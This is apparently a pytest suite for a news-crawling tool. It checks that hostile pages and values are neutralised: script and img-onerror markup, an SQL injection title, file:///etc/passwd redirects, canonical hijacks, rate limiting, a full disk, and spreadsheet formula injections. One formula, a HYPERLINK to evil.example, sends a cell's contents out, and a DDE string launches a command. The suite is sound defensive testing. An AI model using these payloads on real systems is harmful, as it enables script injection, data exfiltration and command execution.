"""Hostile pages: markup and SQL in crawled text are stored verbatim as text, never run or
interpolated, and come out escaped in the digest (HTML, Markdown), the exports and Datasette."""
from __future__ import annotations

import asyncio
import csv
import html
import io
import json
import sqlite3

import pytest

from crawler.dedupe import normalise_url
from cuttings.demo import serve_directory
from tests.conftest import query_rows, run_cli
from tests.ops_support import sources_for

pytestmark = pytest.mark.slow

SCRIPT_TITLE = "Fire chief <script>alert(1)</script> warns of cuts to Hereford and Worcester Fire and Rescue Service"
SQL_TITLE = "Fire authority's budget'); DROP TABLE articles;-- approved by Shropshire Fire and Rescue Service"
IMG_TEXT = '<img src=x onerror="alert(2)">'

SCRIPT_PARAGRAPHS = [
    "Hereford and Worcester Fire and Rescue Service warns it could be forced to close two stations next year "
    "because its budget will not cover the cost of running every engine through the winter.",
    f"A campaigner posted the markup {IMG_TEXT} in a comment, which this story quotes as text.",
    "The fire authority will meet on Thursday to discuss the plans, which union officials say would leave "
    "rural villages waiting longer for a crew in an emergency.",
    "Shropshire Fire and Rescue Service has faced similar pressures and has already reduced the number of "
    "on-call crews it keeps available overnight across the county.",
    "The chief fire officer said no decision had yet been taken and that residents would be consulted before "
    "any station closed.",
]
SQL_PARAGRAPHS = [
    "Shropshire Fire and Rescue Service will spend more on training next year after the fire authority agreed "
    "its budget at a meeting in Shrewsbury on Wednesday evening.",
    f"One councillor's amendment, circulated as {IMG_TEXT} by a prankster, was ruled out of order.",
    "Members voted to raise the fire precept by just under three per cent, the most allowed without a "
    "referendum, to pay for new breathing apparatus and two replacement engines.",
    "The treasurer warned that reserves would fall below the recommended level within three years unless the "
    "government changed the way it funds rural fire services.",
    "West Mercia Police and Crime Commissioner John Campion, who has argued for a single governance model, "
    "said he would study the figures closely.",
]


def article_page(title: str, day: str, paragraphs: list[str]) -> str:
    body = "".join(f"<p>{html.escape(p)}</p>" for p in paragraphs)
    # a real <img onerror> and <script> in the page as well: markup, not text, must not reach the store
    body += '<p>Crews at work <img src="x" onerror="alert(3)"> yesterday.</p><script>alert(4)</script>'
    escaped = html.escape(title)
    ld = json.dumps({"@context": "https://schema.org", "@type": "NewsArticle", "headline": title,
                     "datePublished": f"{day}T08:00:00Z"}).replace("</", "<\\/")
    return f"""<!DOCTYPE html><html lang="en-GB"><head><meta charset="utf-8"><title>{escaped}</title>
<meta property="og:type" content="article"><meta property="og:title" content="{escaped}">
<script type="application/ld+json">{ld}</script></head>
<body><main><article><h1>{escaped}</h1><p class="byline">By A Reporter</p>
<time datetime="{day}T08:00:00Z">{day}</time><div class="story-body">{body}</div></article></main></body></html>"""


def build_site(root):
    site = root / "hostile"
    stories = [("2026-11-20", "script-title", SCRIPT_TITLE, SCRIPT_PARAGRAPHS),
               ("2026-11-21", "sql-title", SQL_TITLE, SQL_PARAGRAPHS)]
    items = []
    for day, slug, title, paragraphs in stories:
        path = site / "news" / day.replace("-", "/") / slug
        path.mkdir(parents=True)
        (path / "index.html").write_text(article_page(title, day, paragraphs), encoding="utf-8")
        items.append(f"<item><title>{html.escape(title)}</title><link>/hostile/news/{day.replace('-', '/')}/{slug}/"
                     f"</link><pubDate>{day}</pubDate></item>")
    (site / "feed.xml").write_text('<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel>'
                                   f'<title>Hostile</title><link>/hostile/</link>{"".join(items)}</channel></rss>',
                                   encoding="utf-8")
    (site / "index.html").write_text("<html><body><a href='news/'>news</a></body></html>")
    (root / "robots.txt").write_text("User-agent: *\nAllow: /\n")
    template = root / "template.toml"
    template.write_text('[[source]]\nid = "hostile"\nname = "Hostile Gazette"\nhome = "{base}/hostile/"\n'
                        'feeds = ["{base}/hostile/feed.xml"]\n'
                        "allow = ['/hostile/news/\\d{4}/\\d{2}/\\d{2}/[a-z-]+/$']\nverified = true\nlocal = true\n")
    return template


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, trained_models):
    root = tmp_path_factory.mktemp("hostile")
    site_dir = root / "site"
    site_dir.mkdir()
    template = build_site(site_dir)
    db = root / "h.db"
    env = {"CUTTINGS_MODELS": str(trained_models)}
    with serve_directory(site_dir) as base:
        sources = sources_for(base, root / "sources.toml", template)
        crawl = run_cli("--db", str(db), "crawl", "--sources", str(sources), "--no-politeness", "--since", "all")
    assert crawl.returncode == 0, crawl.stderr.decode()[-3000:]
    for stage in ("analyse", "classify"):
        result = run_cli("--db", str(db), stage, env=env)
        assert result.returncode == 0, result.stderr.decode()[-3000:]
    commands = run_cli("--help").stdout.decode()
    return {"db": db, "root": root, "env": env, "commands": commands}


def titles(db):
    conn = sqlite3.connect(db)
    rows = dict(conn.execute("SELECT title, body FROM articles"))
    conn.close()
    return rows


def test_stored_verbatim_as_text(hostile):
    stored = titles(hostile["db"])
    assert set(stored) == {SCRIPT_TITLE, SQL_TITLE}
    for body in stored.values():
        assert IMG_TEXT in body  # text that looks like markup is kept as text
        assert "alert(3)" not in body and "alert(4)" not in body  # real markup is not text
    conn = sqlite3.connect(hostile["db"])
    assert conn.execute("SELECT count(*) FROM articles WHERE duplicate_of IS NULL").fetchone()[0] == 2
    assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    # full-text search finds the words, the triggers did not choke on the quotes
    assert conn.execute("SELECT count(*) FROM articles_fts WHERE articles_fts MATCH 'DROP'").fetchone()[0] == 1
    conn.close()


def needs(hostile, command):
    if f"  {command} " not in hostile["commands"]:
        pytest.skip(f"`cuttings {command}` is not registered in this checkout")


def test_digest_escapes_markup(hostile):
    needs(hostile, "report")
    out = hostile["root"] / "reports"
    result = run_cli("--db", str(hostile["db"]), "report", "--since", "2026-01-01", "--out", str(out),
                     "--no-record")
    assert result.returncode == 0, result.stderr.decode()[-2000:]
    page = next(out.glob("*.html")).read_text()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page and "<script>alert(1)" not in page
    assert "<img src=x onerror" not in page
    assert "DROP TABLE articles" in page
    markdown = next(out.glob("*.md")).read_text()
    assert "Fire chief" in markdown
    assert "<script>" not in markdown and "<img" not in markdown  # raw HTML would run in a Markdown viewer


def test_exports_carry_text_verbatim(hostile):
    needs(hostile, "export")
    as_csv = run_cli("--db", str(hostile["db"]), "export", "--format", "csv")
    assert as_csv.returncode == 0, as_csv.stderr.decode()
    rows = list(csv.DictReader(io.StringIO(as_csv.stdout.decode())))
    assert {SCRIPT_TITLE, SQL_TITLE} <= {row["title"] for row in rows}
    as_jsonl = run_cli("--db", str(hostile["db"]), "export", "--format", "jsonl")
    records = [json.loads(line) for line in as_jsonl.stdout.decode().splitlines() if line.strip()]
    assert {SCRIPT_TITLE, SQL_TITLE} <= {record["title"] for record in records}


def test_datasette_html_escapes_markup(hostile):
    datasette_app = pytest.importorskip("datasette.app")
    conn = sqlite3.connect(hostile["db"])
    article_id = conn.execute("SELECT id FROM articles WHERE title = ?", [SCRIPT_TITLE]).fetchone()[0]
    conn.close()

    async def fetch():
        ds = datasette_app.Datasette([str(hostile["db"])], immutables=[])
        name = hostile["db"].stem
        row = await ds.client.get(f"/{name}/articles/{article_id}")
        table = await ds.client.get(f"/{name}/articles")
        search = await ds.client.get(f"/{name}/articles.json?_search=DROP&_shape=array")
        return row, table, search

    row, table, search = asyncio.run(fetch())
    assert row.status_code == 200 and table.status_code == 200
    for page in (row.text, table.text):
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
        assert "<script>alert(1)" not in page
    assert "&lt;img src=x onerror=" in row.text and '<img src=x onerror="alert(2)">' not in row.text
    assert "DROP TABLE articles;--" in table.text
    assert [r["title"] for r in search.json()] == [SQL_TITLE]  # full-text search with the hostile word


# ==============================================================================================
# Issue 14: a hostile web and a full disk. Real servers on 127.0.0.1 (tests/faultserver.py),
# real `cuttings` processes; each test asserts what is stored, what is recorded, the exit code.
# ==============================================================================================

import os  # noqa: E402
import shutil  # noqa: E402
import signal  # noqa: E402
import subprocess  # noqa: E402
import sys  # noqa: E402
import time  # noqa: E402
import urllib.error  # noqa: E402
import urllib.request  # noqa: E402
from pathlib import Path  # noqa: E402

from tests.faultserver import HostileWeb, corpus_story, local_site  # noqa: E402
from tests.faultserver import closed_port as _free_port  # noqa: E402


@pytest.fixture(scope="module")
def web(tmp_path_factory):
    """The hostile web crawled twice into one database (the second run tests stability)."""
    root = tmp_path_factory.mktemp("hostile-web")
    db = root / "web.db"
    runs = []
    with HostileWeb() as site:
        sources = site.sources_toml(root / "sources.toml")
        for _ in range(2):
            before = {role: len(site.requests[role]) for role in site.ROLES}
            result = run_cli("--db", str(db), "crawl", "--sources", str(sources), "--no-politeness", "--since", "all")
            log = {role: site.requests[role][before[role]:] for role in site.ROLES}
            runs.append({"result": result, "log": log})
        yield {"db": db, "site": site, "runs": runs, "base": dict(site.base)}


def _paths(web, role, run=0, prefix="/"):
    return [r.path for r in web["runs"][run]["log"][role] if r.path.startswith(prefix)]


def _errors(web, kind, run_id=None):
    sql = "SELECT * FROM crawl_errors WHERE kind = ?" + (" AND crawl_run_id = ?" if run_id else "")
    return query_rows(web["db"], sql, [kind, run_id] if run_id else [kind])


def _notices(web, kind, run_id=None):
    sql = "SELECT * FROM crawl_notices WHERE kind = ?" + (" AND crawl_run_id = ?" if run_id else "")
    return query_rows(web["db"], sql, [kind, run_id] if run_id else [kind])


def test_web_crawls_exit_zero_and_are_partial(web):
    for run in web["runs"]:
        assert run["result"].returncode == 0, run["result"].stderr.decode()[-2000:]
        assert b"Traceback" not in run["result"].stderr
    statuses = [r["status"] for r in query_rows(web["db"], "SELECT status FROM crawl_runs ORDER BY id")]
    assert statuses == ["partial", "partial"]  # refused URLs and 429s are errors of the run


def test_only_http_and_own_hosts_fetched(web):
    """robots.txt Sitemap: lines, sitemap-index children, feed links and redirects to file:// or to
    another local port are refused and recorded; the internal service is never asked anything."""
    assert web["site"].requests["internal"] == []
    schemes = {e["url"] for e in _errors(web, "url_scheme")}
    assert {"file:///etc/passwd", "file:///dev/zero"} <= schemes
    internal = web["base"]["internal"]
    offsite = {e["url"] for e in _errors(web, "offsite_host", run_id=1)}
    assert {f"{internal}/secret-sitemap.xml", f"{internal}/child.xml", f"{internal}/feed.xml",
            f"{internal}/admin"} <= offsite  # robots line, index child, feed link, redirect target
    [redirect] = [e for e in _errors(web, "offsite_host", run_id=1) if e["url"].endswith("/admin")]
    assert redirect["source_id"] == "hostile-news" and "not a host of source" in redirect["message"]
    stored = query_rows(web["db"], "SELECT url, body FROM articles")
    assert not any("root:x:0:0" in (a["body"] or "") for a in stored)
    assert query_rows(web["db"], "SELECT url FROM crawl_state WHERE url NOT LIKE 'http%'") == []
    # the redirect to file:// is not followed (Scrapy's redirect middleware refuses the scheme)
    assert [e["http_status"] for e in _errors(web, "http_302", run_id=1)] == [302]


def test_private_address_refused_unless_local(web):
    assert web["site"].requests["notlocal"] == []
    refused = _errors(web, "private_address", run_id=1)
    assert refused and {e["source_id"] for e in refused} == {"notlocal-news"}
    assert "local = true" in refused[0]["message"]
    assert query_rows(web["db"], "SELECT id FROM articles WHERE source_id = 'notlocal-news'") == []


def test_size_cap_covers_sitemaps(web):
    [error] = [e for e in _errors(web, "too_large", run_id=1) if e["url"].endswith("/huge-sitemap.xml")]
    assert error["source_id"] == "hostile-news"
    assert _paths(web, "hostile", prefix="/news/huge-") == []


def test_canonical_hijack_refused(web):
    """A page on hostile-news pointing its canonical at victim-news's story is stored under its own
    URL; the victim's story keeps its text, its outlet and version 1."""
    headline = corpus_story("t1-001")[0]
    [victim] = query_rows(web["db"], "SELECT * FROM articles WHERE canonical_url LIKE ?", ["%/news/victim-story"])
    # victim-news or its declared sister (whose copy may be stored first), never the attacker
    assert victim["source_id"] in ("victim-news", "sister-news")
    assert (victim["title"], victim["version"]) == (headline, 1)
    assert query_rows(web["db"], "SELECT count(*) AS n FROM article_versions WHERE article_id = ?",
                 [victim["id"]])[0]["n"] == 1
    [hijack] = query_rows(web["db"], "SELECT * FROM articles WHERE canonical_url LIKE ?", ["%/news/hijack"])
    assert hijack["source_id"] == "hostile-news" and hijack["title"] == corpus_story("t1-002")[0]
    # the link people follow is the page's own address too, never the refused canonical
    assert hijack["link_url"] == hijack["url"] == web["base"]["hostile"] + "/news/hijack/"
    assert victim["link_url"].startswith(web["base"]["victim"] + "/news/victim-story/")
    notices = _notices(web, "canonical_offsite", run_id=1)
    assert [n["url"] for n in notices] == [web["base"]["hostile"] + "/news/hijack/"]
    assert web["base"]["victim"] + "/news/victim-story/" in notices[0]["message"]


def test_sister_title_canonical_accepted(web):
    """sister-news declares victim-news a sister title: its copy's canonical is taken."""
    assert not [n for n in _notices(web, "canonical_offsite") if n["source_id"] == "sister-news"]
    assert query_rows(web["db"], "SELECT id FROM articles WHERE canonical_url LIKE '%copy-of-victim%'") == []
    assert _paths(web, "sister", prefix="/news/copy-of-victim/")


def test_shared_canonical_does_not_swap_versions(web):
    """Two pages with one canonical: the first keeps it, the second is stored under its own URL;
    a second crawl refetches both and adds no version."""
    assert len(_paths(web, "hostile", run=1, prefix="/news/twin-")) == 2  # both refetched in run 2
    twins = query_rows(web["db"], "SELECT a.canonical_url, a.url, a.link_url, a.title, a.version, count(v.id) AS versions "
                             "FROM articles a "
                             "JOIN article_versions v ON v.article_id = a.id WHERE a.title IN (?, ?) GROUP BY a.id",
                  [corpus_story("t1-003")[0], corpus_story("t1-004")[0]])
    assert len(twins) == 2 and all(t["version"] == 1 and t["versions"] == 1 for t in twins)
    assert len({t["canonical_url"] for t in twins}) == 2
    # the one stored under its own URL links there, not to the canonical another article holds
    [own] = [t for t in twins if t["canonical_url"] == normalise_url(t["url"])]
    [first] = [t for t in twins if t is not own]
    assert own["link_url"] == own["url"]
    assert first["link_url"] == web["base"]["hostile"] + "/news/twin-canonical/"   # as the page declares it
    for run_id in (1, 2):
        assert len(_notices(web, "canonical_conflict", run_id=run_id)) == 1


def test_sitemap_budget(web):
    budget = HostileWeb.SITEMAP_BUDGET
    for run in (0, 1):  # robots.txt names 5 sitemaps, the index 2 refused ones first
        assert len(_paths(web, "hostile", run=run, prefix="/sitemaps/")) == budget - 7
    [notice] = _notices(web, "budget_sitemaps", run_id=1)
    assert notice["source_id"] == "hostile-news" and f"budget of {budget}" in notice["message"]
    stored = query_rows(web["db"], "SELECT canonical_url FROM articles WHERE canonical_url LIKE '%from-sitemap-%'")
    assert len(stored) == budget - 7


def test_junk_links_cannot_spend_the_page_budget(web):
    assert 0 < len(_paths(web, "hostile", prefix="/news/junk-")) <= HostileWeb.LINK_BUDGET
    [notice] = [n for n in _notices(web, "budget_links_per_page", run_id=1)]
    assert notice["url"].endswith("/junk/")
    # the other pages of the site were still fetched and stored
    assert query_rows(web["db"], "SELECT id FROM articles WHERE canonical_url LIKE '%/news/plain-story'")


def test_retry_after_budget_and_long_waits(web):
    requested = _paths(web, "hostile", prefix="/news/rate-limited-")
    assert len(requested) == HostileWeb.RATE_LIMITED + int(HostileWeb.RETRY_WAIT_BUDGET)  # 2 retries of 1 s
    assert _notices(web, "budget_retry_wait", run_id=1)
    assert _paths(web, "hostile", prefix="/news/come-back-later/") == ["/news/come-back-later/"]  # not retried
    [long_wait] = _notices(web, "retry_after_too_long", run_id=1)
    assert "3600" in long_wait["message"]
    limited = [e for e in _errors(web, "http_429", run_id=1)]
    assert len(limited) == HostileWeb.RATE_LIMITED + 1


def test_robots_txt_over_cap_disallows_all(web):
    assert set(_paths(web, "bigrobots")) == {"/robots.txt"}
    [error] = _errors(web, "robots_too_large", run_id=1)
    assert error["source_id"] == "bigrobots-news" and "disallowing everything" in error["message"]
    assert _errors(web, "robots_disallowed", run_id=1)
    assert query_rows(web["db"], "SELECT id FROM articles WHERE source_id = 'bigrobots-news'") == []


def test_nul_bytes_stripped_from_stored_text(web):
    [row] = query_rows(web["db"], "SELECT title, body FROM articles WHERE canonical_url LIKE '%/news/nul-title'")
    assert row["title"] == HostileWeb.NUL_TITLE.replace("\x00", "")
    assert "\x00" not in row["body"]
    assert query_rows(web["db"], "SELECT id FROM articles WHERE instr(title, char(0)) OR instr(body, char(0))") == []


def test_raw_utf8_links_without_declared_charset(web):
    assert "/news/caf%C3%A9-cr%C3%A8me-plan/" in _paths(web, "hostile")
    [row] = query_rows(web["db"], "SELECT title FROM articles WHERE title = ?", [corpus_story("t1-011")[0]])
    assert row
    assert not [p for p in _paths(web, "hostile") if "%C3%83" in p]  # no mojibake request


# -- storage faults: a full disk and a read-only filesystem (tmpfs mounted by the test) ---------

def _mount_tmpfs(directory: Path, size: str):
    if os.geteuid() != 0 or shutil.which("mount") is None:
        pytest.skip("mounting a small tmpfs needs root and mount(8)")
    directory.mkdir(parents=True, exist_ok=True)
    result = subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(directory)],
                            capture_output=True, text=True)
    if result.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {result.stderr.strip()}")


def _umount(directory: Path):
    if subprocess.run(["umount", str(directory)], capture_output=True).returncode != 0:
        subprocess.run(["umount", "-l", str(directory)], capture_output=True)


@pytest.fixture(scope="module")
def demo_reference(tmp_path_factory):
    """The demo site served on 127.0.0.1 and a reference crawl of it on a normal disk."""
    root = tmp_path_factory.mktemp("storage")
    with serve_directory() as base:
        sources = sources_for(base, root / "sources.toml")
        reference = root / "reference.db"
        result = run_cli("--db", str(reference), "crawl", "--sources", str(sources), "--no-politeness")
        assert result.returncode == 0, result.stderr.decode()[-2000:]
        yield {"root": root, "sources": sources, "reference": reference}


def _article_keys(db_path):
    return sorted((r["canonical_url"], r["content_hash"]) for r in query_rows(db_path, "SELECT canonical_url, content_hash "
                                                                                  "FROM articles"))


def test_disk_full_is_no_silent_loss_and_next_run_completes(demo_reference, tmp_path):
    from cuttings import store
    from cuttings.crawl import default_since

    mount = tmp_path / "small-disk"
    _mount_tmpfs(mount, "32m")  # the filler leaves 3.5 MB; freed, the whole crawl fits
    try:
        db_path = mount / "cuttings.db"
        store.connect(db_path).conn.close()
        stat = os.statvfs(mount)
        filler = mount / "filler"
        filler.write_bytes(b"\0" * (stat.f_bavail * stat.f_frsize - 3_500_000))  # 3.5 MB left: 1 MB reserve, part of a crawl

        full = run_cli("--db", str(db_path), "crawl", "--sources", str(demo_reference["sources"]), "--no-politeness")
        stderr = full.stderr.decode()
        assert full.returncode == 5, stderr[-3000:]
        assert "Traceback" not in stderr
        [line] = [text for text in stderr.splitlines() if text.startswith("Error:")]
        assert "storage error" in line and "disk is full" in line and "next run" in line
        runs = query_rows(db_path, "SELECT * FROM crawl_runs ORDER BY id")
        assert [r["status"] for r in runs] == ["failed"]  # not "ok", not left "running"
        assert "not stored" in runs[0]["message"] and runs[0]["errors"] >= 1
        stored = query_rows(db_path, "SELECT count(*) AS n FROM articles")[0]["n"]
        reference = _article_keys(demo_reference["reference"])
        assert 0 < stored < len(reference)
        kinds = {r["kind"] for r in query_rows(db_path, "SELECT kind FROM crawl_errors")}
        assert kinds & {"write_failed", "storage_error"}
        db = store.connect(db_path, migrate=False)
        assert default_since(db, 6) is None  # the failed run does not move the next run's window
        db.conn.close()

        # the digest says so (report files go to a normal disk; nothing is recorded)
        out = tmp_path / "reports"
        digest = run_cli("--db", str(db_path), "report", "--no-record", "--format", "md", "--out", str(out))
        assert digest.returncode == 0, digest.stderr.decode()[-2000:]
        text = next(out.glob("*.md")).read_text()
        assert "ended 'failed'" in text and "not stored" in text and "write\\_failed" in text
        assert "All sources crawled without errors" not in text

        filler.unlink()
        again = run_cli("--db", str(db_path), "crawl", "--sources", str(demo_reference["sources"]), "--no-politeness")
        assert again.returncode == 0, again.stderr.decode()[-3000:]
        assert _article_keys(db_path) == reference  # the later run completed the work, nothing duplicated
        assert [r["status"] for r in query_rows(db_path, "SELECT status FROM crawl_runs ORDER BY id")] == ["failed", "ok"]
        assert query_rows(db_path, "PRAGMA integrity_check")[0]["integrity_check"] == "ok"
    finally:
        _umount(mount)


def test_read_only_storage_one_line_exit_1_no_run_left_running(demo_reference, tmp_path):
    """Read-only storage is a setup error (exit 1, docs/operations.md), found before any work."""
    from cuttings import store

    mount = tmp_path / "ro-disk"
    _mount_tmpfs(mount, "16m")
    try:
        db_path = mount / "cuttings.db"
        store.connect(db_path).conn.close()
        remount = subprocess.run(["mount", "-o", "remount,ro", str(mount)], capture_output=True, text=True)
        if remount.returncode != 0:
            pytest.skip(f"cannot remount read-only: {remount.stderr.strip()}")
        for args in (["crawl", "--sources", str(demo_reference["sources"]), "--no-politeness"],
                     ["run", "--sources", str(demo_reference["sources"]), "--no-politeness", "--skip", "analyse",
                      "--skip", "classify", "--skip", "report", "--log-file", str(tmp_path / "run.log")]):
            result = run_cli("--db", str(db_path), *args)
            stderr = result.stderr.decode()
            assert result.returncode == 1, (args[0], stderr[-3000:])
            assert "Traceback" not in stderr
            lines = [text for text in stderr.splitlines() if text.startswith("Error:")]
            assert len(lines) == 1 and ("readonly" in lines[0].lower() or "read-only" in lines[0].lower()), stderr[-2000:]
        assert query_rows(f"file:{db_path}?immutable=1", "SELECT count(*) AS n FROM crawl_runs")[0]["n"] == 0
    finally:
        subprocess.run(["mount", "-o", "remount,rw", str(mount)], capture_output=True)
        _umount(mount)


# -- extraction workers end with the crawler, however it dies -----------------------------------

def _descendants(pid: int) -> set[int]:
    children: dict[int, list[int]] = {}
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            fields = (entry / "stat").read_text().rsplit(")", 1)[1].split()
        except OSError:
            continue
        if fields[0] != "Z":
            children.setdefault(int(fields[1]), []).append(int(entry.name))
    found, todo = set(), [pid]
    while todo:
        for child in children.get(todo.pop(), []):
            if child not in found:
                found.add(child)
                todo.append(child)
    return found


def _alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state != "Z"


@pytest.mark.skipif(not Path("/proc").is_dir(), reason="needs /proc to list the crawler's processes")
def test_extraction_workers_die_with_a_killed_crawler(tmp_path):
    """SIGKILL (as the OOM killer sends) to a crawl with its fork server and extraction workers up:
    none of them outlives it."""
    with serve_directory() as base:
        sources = sources_for(base, tmp_path / "sources.toml")
        env = {k: v for k, v in os.environ.items() if k not in ("CUTTINGS_DB",)}
        # polite: one request a second, so the crawl is still running when it is killed
        process = subprocess.Popen([sys.executable, "pipeline.py", "--db", str(tmp_path / "k.db"), "crawl",
                                    "--sources", str(sources)], cwd=Path(__file__).resolve().parent.parent,
                                   env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        try:
            deadline = time.monotonic() + 60
            workers: set[int] = set()
            while time.monotonic() < deadline and len(workers) < 3:  # fork server + 2 workers
                time.sleep(0.5)
                workers = _descendants(process.pid)
            assert len(workers) >= 3, f"the crawl did not start its extraction workers: {workers}"
            process.send_signal(signal.SIGKILL)
            process.wait(timeout=10)
            deadline = time.monotonic() + 15
            while time.monotonic() < deadline and any(_alive(pid) for pid in workers):
                time.sleep(0.2)
            assert not [pid for pid in workers if _alive(pid)], "orphan processes outlived the crawler"
        finally:
            if process.poll() is None:
                process.kill()


# -- `cuttings serve` on a database a run is writing to -----------------------------------------

def _get_json(url: str):
    with urllib.request.urlopen(url, timeout=10) as response:
        return response.status, json.loads(response.read())


def test_serve_reads_a_live_database_while_a_run_writes(tmp_path):
    """Rows written (and checkpointed) while Datasette serves are all seen, without errors; an
    immutable-mode server would serve stale pages or "database disk image is malformed"."""
    from cuttings import store

    db_path = tmp_path / "live.db"
    db = store.connect(db_path)
    run_id = store.start_run(db, "crawl")
    port = _free_port()
    log = tmp_path / "serve.log"
    with open(log, "wb") as out:
        server = subprocess.Popen([sys.executable, "pipeline.py", "--db", str(db_path), "serve", "--port", str(port)],
                                  cwd=Path(__file__).resolve().parent.parent, stdout=out, stderr=subprocess.STDOUT)
    url = f"http://127.0.0.1:{port}/live/crawl_notices.json?_size=1&_shape=objects"
    try:
        deadline = time.monotonic() + 60
        while True:
            try:
                _get_json(url)
                break
            except urllib.error.HTTPError:
                raise
            except OSError:
                assert server.poll() is None and time.monotonic() < deadline, log.read_text()[-2000:]
                time.sleep(0.3)
        seen, written = [], 0
        for batch in range(12):  # ~6 MB through the WAL: automatic checkpoints happen while serving
            for _ in range(250):
                store.record_notice(db, run_id, "live", url=f"https://example.org/{written}", message="x" * 1900)
                written += 1
            status, page = _get_json(url)
            assert status == 200
            seen.append(page["filtered_table_rows_count"])
        assert seen == sorted(seen) and seen[-1] == written, seen
    finally:
        server.terminate()
        server.wait(timeout=20)
        db.conn.close()


# -- Datasette's own CSV export guarded against spreadsheet formulas ----------------------------

def test_datasette_csv_export_guards_formulas(tmp_path):
    datasette_app = pytest.importorskip("datasette.app")
    from datasette.plugins import pm

    assert "cuttings.datasette_csv_guard" in {getattr(p, "__name__", "") for p in pm.get_plugins()}
    db_path = tmp_path / "csvguard.db"
    conn = sqlite3.connect(db_path)
    values = ['=HYPERLINK("http://evil.example/?"&A1, "Council news")', "@SUM(1+1)*cmd|' /C calc'!A0",
              "+44 1905 123456 call now", "-2+3", "\tTab first", '\uff1dHYPERLINK("http://evil.example","x")',
              "\u200b\uff20SUM(1+1)", " \uff0b1", "Plain headline, with a comma", "-3", "+4.5"]
    conn.execute("CREATE TABLE articles (id INTEGER PRIMARY KEY, title TEXT)")
    conn.executemany("INSERT INTO articles (title) VALUES (?)", [(v,) for v in values])
    conn.commit()
    conn.close()

    async def fetch():
        ds = datasette_app.Datasette([str(db_path)])
        plain = await ds.client.get("/csvguard/articles.csv?_size=max")
        streamed = await ds.client.get("/csvguard/articles.csv?_stream=on&_dl=1")
        as_json = await ds.client.get("/csvguard/articles.json?_shape=array")
        return plain, streamed, as_json

    plain, streamed, as_json = asyncio.run(fetch())
    expected = ["'" + v for v in values[:8]] + values[8:]
    for response in (plain, streamed):
        assert response.status_code == 200
        rows = list(csv.DictReader(io.StringIO(response.text)))
        assert [row["title"] for row in rows] == expected
    assert [row["title"] for row in as_json.json()] == values  # JSON is data, not a spreadsheet


# -- the webhook secret and SMTP login ----------------------------------------------------------

WEBHOOK_SECRET = "T0000/B0000/XXXXsecretXXXXtoken"


def test_webhook_url_never_on_command_line_nor_in_errors(tmp_path):
    from cuttings import store

    store.connect(tmp_path / "empty.db").conn.close()
    hostile = {"db": tmp_path / "empty.db"}
    out = tmp_path / "reports"
    typed = run_cli("--db", str(hostile["db"]), "report", "--no-record", "--out", str(out),
                    "--webhook", f"https://hooks.slack.com/services/{WEBHOOK_SECRET}")
    assert typed.returncode == 1
    assert "CUTTINGS_WEBHOOK_URL" in typed.stderr.decode()
    assert WEBHOOK_SECRET not in (typed.stdout + typed.stderr).decode()

    # a receiver that answers 500 and echoes the path it was given
    with local_site(lambda request: (500, {}, f"no such hook {request.path}")) as receiver:
        hook = f"http://127.0.0.1:{receiver.server_address[1]}/services/{WEBHOOK_SECRET}"
        from_env = run_cli("--db", str(hostile["db"]), "report", "--no-record", "--out", str(out), "--webhook",
                           env={"CUTTINGS_WEBHOOK_URL": hook})
        hook_file = tmp_path / "webhook.url"
        hook_file.write_text(hook + "\n")
        from_file = run_cli("--db", str(hostile["db"]), "report", "--no-record", "--out", str(out),
                            "--webhook-file", str(hook_file))
    for result in (from_env, from_file):
        assert result.returncode == 6   # the delivery failed (nightly.EXIT_DELIVERY), as `run` exits
        text = (result.stdout + result.stderr).decode()
        assert "HTTP 500" in text and WEBHOOK_SECRET not in text
    assert not run_cli("--db", str(hostile["db"]), "report", "--no-record", "--out", str(out), "--webhook",
                       env={"CUTTINGS_WEBHOOK_URL": ""}).returncode == 0


def test_smtp_login_requires_starttls_by_default():
    from aiosmtpd.controller import Controller
    from aiosmtpd.smtp import AuthResult

    from cuttings import delivery

    attempts = []

    def authenticator(server, session, envelope, mechanism, auth_data):
        attempts.append(auth_data)
        return AuthResult(success=True)

    class Inbox:
        envelopes = []

        async def handle_DATA(self, server, session, envelope):  # noqa: N802
            self.envelopes.append(envelope)
            return "250 OK"

    inbox = Inbox()
    controller = Controller(inbox, hostname="127.0.0.1", port=_free_port(), authenticator=authenticator,
                            auth_require_tls=False)  # a server that would accept a password in clear
    controller.start()
    env = {"CUTTINGS_SMTP_HOST": "127.0.0.1", "CUTTINGS_SMTP_PORT": str(controller.port),
           "CUTTINGS_SMTP_FROM": "c@example.org", "CUTTINGS_SMTP_TO": "a@example.org",
           "CUTTINGS_SMTP_USER": "digest", "CUTTINGS_SMTP_PASSWORD": "pa55word"}
    try:
        with pytest.raises(delivery.DeliveryError, match="STARTTLS"):  # the server offers no STARTTLS
            delivery.send_email("s", "<p>h</p>", "t", env=env)
        with pytest.raises(delivery.DeliveryError, match="without STARTTLS"):
            delivery.send_email("s", "<p>h</p>", "t", env={**env, "CUTTINGS_SMTP_STARTTLS": "0"})
        assert attempts == [] and inbox.envelopes == []  # the password never left
        delivery.send_email("s", "<p>h</p>", "t",
                            env={**env, "CUTTINGS_SMTP_STARTTLS": "0", "CUTTINGS_SMTP_PLAINTEXT_LOGIN": "1"})
        assert len(attempts) == 1 and len(inbox.envelopes) == 1  # the explicit opt-out still works
    finally:
        controller.stop()
